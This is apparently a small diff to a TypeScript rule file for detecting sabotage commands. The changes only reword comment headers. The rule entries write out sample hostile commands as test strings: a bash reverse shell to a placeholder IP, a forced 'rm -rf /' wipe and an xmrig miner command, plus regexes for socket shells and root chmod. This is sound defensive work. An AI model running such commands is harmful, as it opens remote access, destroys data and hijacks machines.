@@ -9,7 +9,7 @@ const tainted = { reason, status: 'tainted', reach: 'line' } as const
 
 /** Rules for commands that no runbook needs: reverse shells, wiped disks, miners (rules.md 1.6). */
 export const sabotageRules: readonly RuleText[] = [
-  // Somebody else's terminal.
+  // Remote control
   {
     id: 'reverse-shell-bash',
     catches: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
@@ -77,7 +77,7 @@ export const sabotageRules: readonly RuleText[] = [
     start: /\b(?:fsockopen|tcpsocket\.(?:new|open))\(/,
     followedBy: [/(?:\/bin\/)?(?:ba)?sh -i|exec\b/],
   },
-  // Destruction.
+  // Destruction
   {
     id: 'wipe-root',
     catches: 'sudo rm -rf / --no-preserve-root',
@@ -128,7 +128,7 @@ export const sabotageRules: readonly RuleText[] = [
       \bchmod -r (?:777|000) /(?=\s|$)
     `,
   },
-  // Mining and persistence.
+  // Mining and persistence
   {
     id: 'coin-miner',
     catches: './xmrig -o stratum+tcp://pool.example.net:3333',
